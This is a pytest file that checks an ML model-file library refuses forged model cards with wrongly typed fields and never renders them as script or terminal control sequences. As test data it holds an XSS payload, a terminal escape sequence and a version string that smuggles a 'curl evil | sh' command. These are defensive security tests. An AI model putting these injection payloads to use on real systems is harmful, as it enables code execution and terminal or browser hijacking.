"""Cards of strangers: fields of wrong types are refused by name, and no field runs as code or controls a terminal."""

from __future__ import annotations

import contextlib
import copy
import re
import warnings

import numpy as np
import pytest

pytest.importorskip("skops", reason="model files need the extra")
pytest.importorskip("typer", reason="the command needs its extra")
import polars as pl

import unseen
from cli_models import unseen as run_command
from model_files import pack, unpack
from test_single_rows import make_frame
from unseen.exceptions import NewDataWarning
from unseen.models import ModelFileError, load_model, read_card

SCRIPT = "<img src=x onerror=alert(1)>"
TERMINAL = "\x1b]0;owned\x07\x1b[31m"
WRONG = [-1, 10**30, 1e7, True, None, "text", [], {}, [1], {"a": 1}, SCRIPT, TERMINAL]


def make_rows(n, seed=0):
    return make_frame(n, seed).with_columns(label=pl.col("label").replace("middle", "low"))


@pytest.fixture(scope="module")
def file(tmp_path_factory):
    path = tmp_path_factory.mktemp("cards") / "m.unseen"
    frame = make_rows(160)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        model = unseen.fit(frame, label="label", domain="site", methods=["logistic", "1-NN"], threshold="youden")
    model.save(path)
    return path


def leaves(value, path=()):
    """Paths of all values of a card, and of the lists and dictionaries around them; of long lists the first entry."""
    yield path
    if isinstance(value, dict):
        for name, entry in value.items():
            yield from leaves(entry, (*path, name))
    elif isinstance(value, list) and value:
        yield from leaves(value[0], (*path, 0))


def changed(card, path, value):
    card = copy.deepcopy(card)
    place = card
    for key in path[:-1]:
        place = place[key]
    place[path[-1]] = value
    return card


def sound_paths(card):
    """The fields that may be shown; format and checksums are checked before."""
    unchecked = ("format", "payload", "sha256")
    short = {name: value for name, value in card.items() if name not in unchecked}
    return [path for path in leaves(short) if path]


def show(path):
    """What is shown of a card, or the error that refuses it."""
    try:
        model = unseen.models.Model(None, read_card(path), "m")
    except ModelFileError as error:
        return [str(error)], True
    return [model._repr_html_(), repr(model).replace("<img", "")], False  # a line of text is not rendered


def test_every_field_of_a_card_is_refused_or_shown_safely(file, tmp_path):
    """Each field in turn is a script, a terminal sequence, and a value of every other type."""
    card, _ = unpack(file)
    paths = sound_paths(card)
    assert len(paths) > 120
    forged = tmp_path / "forged.unseen"
    rng = np.random.default_rng(0)
    n_refused = 0
    for path in paths:
        for value in [SCRIPT, TERMINAL, *rng.choice(np.array(WRONG, dtype=object), 3)]:
            pack(forged, changed(card, path, value), b"")
            texts, is_refused = show(forged)
            n_refused += is_refused
            for text in texts:
                assert "<img" not in text or is_refused, path
                assert "\x1b" not in text, path
    assert n_refused > 300


@pytest.mark.parametrize("seed", range(4))
def test_commands_end_with_one_line_for_any_card(file, tmp_path, seed):
    card, payload = unpack(file)
    forged = tmp_path / "forged.unseen"
    paths = sound_paths(card)
    rng = np.random.default_rng(seed)
    for _ in range(12):
        path = paths[rng.integers(len(paths))]
        pack(forged, changed(card, path, WRONG[rng.integers(len(WRONG))]), payload)
        for arguments in (("show", forged, "--columns"), ("show", forged, "--format", "json")):
            code, text = run_command(*arguments)  # raises what is not an error message
            assert code in (0, 2), (path, text)
            assert "\x1b" not in text


def test_any_card_is_refused_or_serves_adaptation_and_prediction(file, tmp_path):
    """Each field in turn has a value of another type; what is loaded ends in a result or an error of ours."""
    card, payload = unpack(file)
    site = make_rows(30, seed=1).with_columns(site=pl.lit("elsewhere"))
    site.write_csv(tmp_path / "site.csv")
    forged = tmp_path / "forged.unseen"
    output = tmp_path / "adapted.unseen"
    estimator = load_model(file).estimator
    rng = np.random.default_rng(0)
    n_loaded = 0
    for path in sound_paths(card):
        pack(forged, changed(card, path, WRONG[rng.integers(len(WRONG))]), payload)
        try:
            model = unseen.models.Model(estimator, read_card(forged))
        except ModelFileError:
            continue
        n_loaded += 1
        with warnings.catch_warnings(), contextlib.suppress(ValueError):
            warnings.simplefilter("ignore", NewDataWarning)
            model.predict(site)
            if n_loaded % 3 == 0:
                model.adapt(site, level="offsets")
        if n_loaded % 20 == 0:
            code, text = run_command("adapt", forged, tmp_path / "site.csv", "-o", output, "--overwrite")
            assert code in (0, 2), (path, text)
    assert n_loaded > 20


@pytest.mark.parametrize(
    ("path", "value", "message"),
    [
        (("data", "columns", 0, "column"), -1, r"data/columns/0/column = -1; text is expected"),
        (("data",), "text", r"data = 'text'; a dictionary is expected"),
        (("ensemble", "members", 0, "weight"), 1e7, r"ensemble/members/0/weight = 10000000\.0; a number from 0 to 1"),
        (("scikit-learn",), "1.0'; curl evil | sh; '", r"scikit-learn = .*; a version is expected"),
        (("scores", "rows"), {}, None),
        (("scores", "rows"), {"elsewhere": 3}, r"other domains in scores/rows than in scores/by_domain"),
        (("expected_performance", "bounds"), [0.0], r"expected_performance/bounds that are not two numbers"),
        (("schema", "columns", 0, "kind"), "odd", r"schema/columns/0/kind = 'odd'; a kind of column is expected"),
    ],
)
def test_a_field_of_another_kind_is_named(file, tmp_path, path, value, message):
    card, payload = unpack(file)
    forged = tmp_path / "forged.unseen"
    pack(forged, changed(card, path, value), payload)
    if message is None:
        read_card(forged)
        return
    for read in (read_card, load_model):
        with pytest.raises(ModelFileError, match=rf"^{re.escape(str(forged))}: its card .*{message}"):
            read(forged)


def test_weights_that_sum_to_more_than_one_are_refused(file, tmp_path):
    card, payload = unpack(file)
    members = [{**card["ensemble"]["members"][0], "weight": 1.0}] * 1000
    pack(tmp_path / "forged.unseen", changed(card, ("ensemble", "members"), members), payload)
    with pytest.raises(ModelFileError, match="weights sum to more than 1"):
        read_card(tmp_path / "forged.unseen")


def test_warnings_about_new_data_hold_no_terminal_sequences(tmp_path):
    frame = make_frame(160).rename({"age": f"age{TERMINAL}"})
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        model = unseen.fit(frame, label="label", domain="site", methods="logistic")
    far = frame.drop("label", "site").with_columns(pl.col(f"age{TERMINAL}") * 1000)
    with pytest.warns(NewDataWarning) as caught:
        model.predict(far)
    assert caught
    assert not any("\x1b" in str(warning.message) for warning in caught)
